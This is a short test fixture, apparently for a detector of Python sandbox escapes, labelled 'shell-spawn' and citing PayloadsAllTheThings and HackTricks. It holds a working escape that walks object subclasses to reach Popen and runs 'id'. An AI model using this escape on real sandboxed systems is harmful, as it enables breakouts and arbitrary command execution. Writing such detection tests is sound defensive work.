# expect: shell-spawn
# also-ok: dynamic-eval
# source: PayloadsAllTheThings Python sandbox escapes; HackTricks bypass python sandboxes
# technique: ().__class__.__base__.__subclasses__() walk to Popen
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "Popen":
        cls(["id"])
        break
